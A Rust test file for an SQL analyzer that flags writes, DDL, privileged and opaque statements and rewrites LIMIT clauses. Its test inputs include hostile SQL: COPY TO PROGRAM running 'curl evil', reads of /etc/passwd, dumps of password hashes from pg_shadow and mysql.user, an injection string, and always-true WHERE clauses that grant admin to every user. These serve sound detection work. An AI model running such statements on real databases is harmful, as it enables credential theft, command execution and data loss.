//! Case tables for the SQL analyzer and the LIMIT rewrite.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    clippy::panic
)]

use super::{SqlDialect, SqlError, analyze, with_limit};

fn pg(sql: &str) -> super::SqlFacts {
    analyze(sql, SqlDialect::Postgres)
}

#[test]
fn dialect_names() {
    assert_eq!("generic".parse::<SqlDialect>(), Ok(SqlDialect::Generic));
    assert_eq!("Postgres".parse::<SqlDialect>(), Ok(SqlDialect::Postgres));
    assert_eq!("POSTGRESQL".parse::<SqlDialect>(), Ok(SqlDialect::Postgres));
    assert_eq!("mysql".parse::<SqlDialect>(), Ok(SqlDialect::MySql));
    assert!("oracle".parse::<SqlDialect>().is_err());
    assert_eq!(SqlDialect::default(), SqlDialect::Generic);
}

#[test]
fn kinds_table() {
    let cases = [
        ("SELECT 1", "select"),
        ("select * from t", "select"),
        ("WITH x AS (SELECT 1) SELECT * FROM x", "select"),
        ("(SELECT 1) UNION (SELECT 2)", "select"),
        ("INSERT INTO t VALUES (1)", "insert"),
        ("UPDATE t SET a = 1 WHERE id = 2", "update"),
        ("DELETE FROM t WHERE id = 1", "delete"),
        (
            "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE",
            "merge",
        ),
        ("CREATE TABLE t (id INT)", "create"),
        ("CREATE INDEX i ON t (a)", "create"),
        ("CREATE VIEW v AS SELECT 1", "create"),
        ("ALTER TABLE t ADD COLUMN b INT", "alter"),
        ("DROP TABLE t", "drop"),
        ("DROP SCHEMA s CASCADE", "drop"),
        ("TRUNCATE t", "truncate"),
        ("GRANT SELECT ON t TO bob", "grant"),
        ("REVOKE SELECT ON t FROM bob", "revoke"),
        ("COPY t TO STDOUT", "copy"),
        ("CALL do_things()", "call"),
        ("EXPLAIN SELECT 1", "explain"),
        ("SET search_path = x", "set"),
        ("SHOW search_path", "show"),
        ("BEGIN", "begin"),
        ("COMMIT", "commit"),
        ("", "none"),
        ("   ;  ", "none"),
        ("SELECT 1; SELECT 2", "multiple"),
        ("SELEC 1", "unknown"),
    ];
    for (sql, kind) in cases {
        assert_eq!(pg(sql).kind, kind, "{sql}");
    }
    assert_eq!(
        pg("BEGIN; DELETE FROM t; COMMIT").kinds,
        vec!["begin", "delete", "commit"]
    );
    assert_eq!(pg("BEGIN; DELETE FROM t; COMMIT").statements, 3);
}

#[test]
fn reads_do_not_write() {
    for sql in [
        "SELECT * FROM users WHERE id = 1",
        "SELECT count(*) FROM orders o JOIN users u ON u.id = o.user_id",
        "WITH recent AS (SELECT * FROM orders) SELECT * FROM recent LIMIT 5",
        "EXPLAIN DELETE FROM users",
        "SHOW search_path",
        "SELECT lower(name) FROM users",
    ] {
        let facts = pg(sql);
        assert!(
            !facts.writes && !facts.ddl && !facts.privileged && !facts.opaque,
            "{sql}: {facts:#?}"
        );
    }
}

#[test]
fn hidden_writes_are_found() {
    let cases = [
        "WITH d AS (DELETE FROM users RETURNING *) SELECT * FROM d",
        "WITH u AS (UPDATE t SET a = 1 WHERE id = 1 RETURNING *) SELECT * FROM u",
        "WITH i AS (INSERT INTO t VALUES (1) RETURNING *) SELECT 1",
        "SELECT * INTO backup_users FROM users",
        "EXPLAIN ANALYZE DELETE FROM users",
        "SELECT nextval('seq')",
        "SELECT setval('seq', 1)",
        "SELECT set_config('search_path', 'x', false)",
        "SELECT pg_terminate_backend(123)",
        "CALL archive_everything()",
        "SELECT 1; DELETE FROM users",
        "COPY users FROM '/tmp/users.csv'",
        "COPY users FROM STDIN",
        "DO $$ BEGIN DELETE FROM users; END $$",
    ];
    for sql in cases {
        assert!(pg(sql).writes, "{sql}: {:#?}", pg(sql));
    }
    assert!(pg("SELECT * INTO backup_users FROM users").ddl);
    let do_block = pg("DO $$ BEGIN DELETE FROM users; END $$");
    assert!(do_block.opaque, "{do_block:#?}");
}

#[test]
fn ddl_and_privileges() {
    for sql in [
        "CREATE TABLE t (a INT)",
        "ALTER TABLE t DROP COLUMN a",
        "DROP TABLE t",
        "TRUNCATE t",
        "COMMENT ON TABLE t IS 'x'",
        "ALTER TABLE a RENAME TO b",
    ] {
        let facts = pg(sql);
        assert!(facts.ddl && facts.writes, "{sql}: {facts:#?}");
    }
    for sql in [
        "GRANT ALL ON t TO bob",
        "REVOKE ALL ON t FROM bob",
        "CREATE ROLE admin SUPERUSER",
        "ALTER ROLE bob SUPERUSER",
        "COPY (SELECT 1) TO PROGRAM 'curl evil'",
        "COPY t FROM PROGRAM 'id'",
        "SELECT pg_read_file('/etc/passwd')",
        "SELECT lo_import('/etc/passwd')",
        "SELECT dblink_exec('host=x', 'DROP TABLE t')",
        "SELECT pg_reload_conf()",
        "CREATE EXTENSION plpython3u",
        "SET ROLE postgres",
        "ALTER SYSTEM SET work_mem = '1GB'",
    ] {
        let facts = pg(sql);
        assert!(facts.privileged, "{sql}: {facts:#?}");
    }
    let copy = pg("COPY (SELECT 1) TO PROGRAM 'curl evil'");
    assert!(copy.writes);
}

#[test]
fn mysql_specifics() {
    let facts = analyze(
        "SELECT * FROM users INTO OUTFILE '/tmp/x'",
        SqlDialect::MySql,
    );
    assert!(facts.writes && facts.privileged, "{facts:#?}");
    let facts = analyze("SELECT load_file('/etc/passwd')", SqlDialect::MySql);
    assert!(facts.privileged);
    let facts = analyze("SELECT * FROM `db`.`users` LIMIT 10", SqlDialect::MySql);
    assert_eq!(facts.tables, vec!["`db`.`users`"]);
    assert!(facts.has_limit);
}

#[test]
fn tables_and_functions() {
    let facts = pg(
        "WITH recent AS (SELECT * FROM public.orders WHERE created > now()) \
         SELECT u.name, count(*) FROM Users u JOIN recent r ON r.user_id = u.id \
         WHERE u.id IN (SELECT user_id FROM bans) GROUP BY u.name",
    );
    assert_eq!(facts.tables, vec!["public.orders", "users", "bans"]);
    assert_eq!(facts.functions, vec!["now", "count"]);
    let facts = pg("DELETE FROM audit.log WHERE id IN (SELECT id FROM audit.old)");
    assert_eq!(facts.tables, vec!["audit.log", "audit.old"]);
    let facts = pg("INSERT INTO t SELECT * FROM s");
    assert_eq!(facts.tables, vec!["t", "s"]);
}

#[test]
fn where_and_limit() {
    let cases = [
        ("SELECT * FROM t", false, false),
        ("SELECT * FROM t WHERE a = 1", true, false),
        ("SELECT * FROM t LIMIT 5", false, true),
        ("SELECT * FROM t WHERE a = 1 LIMIT 5", true, true),
        ("SELECT * FROM t FETCH FIRST 5 ROWS ONLY", false, true),
        ("SELECT * FROM (SELECT * FROM t LIMIT 5) s", false, false),
        (
            "SELECT * FROM t WHERE a IN (SELECT b FROM u LIMIT 1)",
            true,
            false,
        ),
        ("DELETE FROM t", false, false),
        ("DELETE FROM t WHERE id = 1", true, false),
        ("UPDATE t SET a = 1", false, false),
        (
            "UPDATE t SET a = 1 WHERE id = 2; DELETE FROM t",
            false,
            false,
        ),
        (
            "UPDATE t SET a = 1 WHERE id = 2; DELETE FROM t WHERE id = 3",
            true,
            false,
        ),
        (
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d WHERE true",
            false,
            false,
        ),
        ("SELECT 1; SELECT 2 LIMIT 1", true, false),
        ("INSERT INTO t VALUES (1)", true, false),
        ("", false, false),
    ];
    for (sql, has_where, has_limit) in cases {
        let facts = pg(sql);
        assert_eq!(
            (facts.has_where, facts.has_limit),
            (has_where, has_limit),
            "{sql}"
        );
    }
    let top = analyze("SELECT TOP 10 * FROM t", SqlDialect::Generic);
    assert!(top.has_limit, "{top:#?}");
}

#[test]
fn for_update_locks_without_writing() {
    let facts = pg("SELECT * FROM t WHERE id = 1 FOR UPDATE");
    assert!(!facts.writes);
    assert!(facts.findings.iter().any(|f| f.fact == "locks"));
}

#[test]
fn opaque_input_fails_closed() {
    for sql in ["SELEC * FROM t", "DELETE FROM", "'; DROP TABLE users; --'"] {
        let facts = pg(sql);
        assert!(facts.opaque && facts.writes, "{sql}: {facts:#?}");
        assert_eq!(facts.kind, "unknown");
    }
}

#[test]
fn with_limit_rewrites() {
    let cases = [
        ("SELECT * FROM t", "SELECT * FROM t LIMIT 100"),
        ("SELECT * FROM t LIMIT 10", "SELECT * FROM t LIMIT 10"),
        ("SELECT * FROM t LIMIT 5000", "SELECT * FROM t LIMIT 100"),
        (
            "SELECT * FROM t LIMIT 5000 OFFSET 10",
            "SELECT * FROM t LIMIT 100 OFFSET 10",
        ),
        (
            "SELECT * FROM t OFFSET 10",
            "SELECT * FROM t LIMIT 100 OFFSET 10",
        ),
        (
            "SELECT * FROM t FETCH FIRST 500 ROWS ONLY",
            "SELECT * FROM t FETCH FIRST 100 ROWS ONLY",
        ),
        (
            "SELECT * FROM (SELECT * FROM t LIMIT 1000) s",
            "SELECT * FROM (SELECT * FROM t LIMIT 1000) s LIMIT 100",
        ),
        (
            "SELECT * FROM t LIMIT $1",
            "SELECT * FROM (SELECT * FROM t LIMIT $1) AS limited LIMIT 100",
        ),
        (
            "SELECT 1 UNION SELECT 2",
            "SELECT 1 UNION SELECT 2 LIMIT 100",
        ),
    ];
    for (sql, expected) in cases {
        assert_eq!(
            with_limit(sql, SqlDialect::Postgres, 100).as_deref(),
            Ok(expected),
            "{sql}"
        );
    }
    let rewritten = with_limit("SELECT * FROM t LIMIT 5000", SqlDialect::Postgres, 100).unwrap();
    assert!(analyze(&rewritten, SqlDialect::Postgres).has_limit);
}

#[test]
fn with_limit_after_analysis_rewrites_the_same() {
    let texts = [
        "SELECT * FROM t",
        "SELECT * FROM t LIMIT $1",
        "SELECT 1; SELECT 2",
        "DELETE FROM t",
        "SELECT `x` FROM t",
    ];
    for sql in texts {
        for dialect in [SqlDialect::Generic, SqlDialect::Postgres, SqlDialect::MySql] {
            let cold = with_limit(sql, dialect, 7);
            // Right after the same text was analyzed, its statements are reused.
            analyze(sql, dialect);
            assert_eq!(with_limit(sql, dialect, 7), cold, "{sql} {dialect:?}");
            // Reused once only; and never for another text or dialect.
            assert_eq!(with_limit(sql, dialect, 7), cold, "{sql} {dialect:?}");
            analyze("SELECT * FROM other", dialect);
            assert_eq!(with_limit(sql, dialect, 7), cold, "{sql} {dialect:?}");
            analyze(sql, SqlDialect::Generic);
            assert_eq!(with_limit(sql, dialect, 7), cold, "{sql} {dialect:?}");
        }
    }
}

#[test]
fn with_limit_refuses_non_selects() {
    assert_eq!(
        with_limit("", SqlDialect::Generic, 10),
        Err(SqlError::Empty)
    );
    assert_eq!(
        with_limit("SELECT 1; SELECT 2", SqlDialect::Generic, 10),
        Err(SqlError::MultipleStatements(2))
    );
    assert!(
        matches!(with_limit("DELETE FROM t", SqlDialect::Generic, 10), Err(SqlError::NotASelect(k)) if k == "delete")
    );
    assert!(matches!(
        with_limit(
            "WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d",
            SqlDialect::Postgres,
            10
        ),
        Err(SqlError::NotASelect(_))
    ));
    assert!(matches!(
        with_limit("SELEC", SqlDialect::Generic, 10),
        Err(SqlError::Parse(_))
    ));
}

#[test]
fn always_true_where_counts_as_no_where() {
    for sql in [
        "UPDATE users SET admin = true WHERE 1=1",
        "DELETE FROM users WHERE true",
        "DELETE FROM users WHERE 'a'='a'",
        "DELETE FROM users WHERE 1",
        "DELETE FROM users WHERE id = id",
        "UPDATE users SET admin = true WHERE id = 7 OR 1=1",
        "SELECT * FROM users WHERE 1=1",
    ] {
        let facts = pg(sql);
        assert!(!facts.has_where, "{sql}: {facts:#?}");
        assert!(
            facts
                .findings
                .iter()
                .any(|f| f.fact == "has_where" && f.detail.contains("always true")),
            "{sql}: {facts:#?}"
        );
    }
    for sql in [
        "UPDATE users SET admin = true WHERE id = 7",
        "DELETE FROM users WHERE id = 7 AND 1=1",
        "DELETE FROM users WHERE active = true",
    ] {
        let facts = pg(sql);
        assert!(facts.has_where, "{sql}: {facts:#?}");
        assert!(
            facts.findings.iter().all(|f| f.fact != "has_where"),
            "{sql}"
        );
    }
}

#[test]
fn table_locks_and_credential_catalogs_are_privileged() {
    for sql in [
        "LOCK TABLE users IN ACCESS EXCLUSIVE MODE",
        "LOCK users",
        "SELECT usename, passwd FROM pg_shadow",
        "SELECT rolname, rolpassword FROM pg_catalog.pg_authid",
        "SELECT * FROM pg_user_mapping",
    ] {
        let facts = pg(sql);
        assert!(facts.privileged, "{sql}: {facts:#?}");
        assert!(
            facts.findings.iter().any(|f| f.fact == "privileged"),
            "{sql}"
        );
    }
    let mysql = analyze(
        "SELECT user, authentication_string FROM mysql.user",
        SqlDialect::MySql,
    );
    assert!(mysql.privileged, "{mysql:#?}");
    let tables = analyze("LOCK TABLES users WRITE", SqlDialect::MySql);
    assert!(tables.privileged, "{tables:#?}");
    for sql in [
        "SELECT usename FROM pg_user",
        "SELECT * FROM users",
        "SELECT * FROM app.user",
        "SELECT * FROM pg_stat_activity",
    ] {
        let facts = pg(sql);
        assert!(!facts.privileged, "{sql}: {facts:#?}");
    }
}
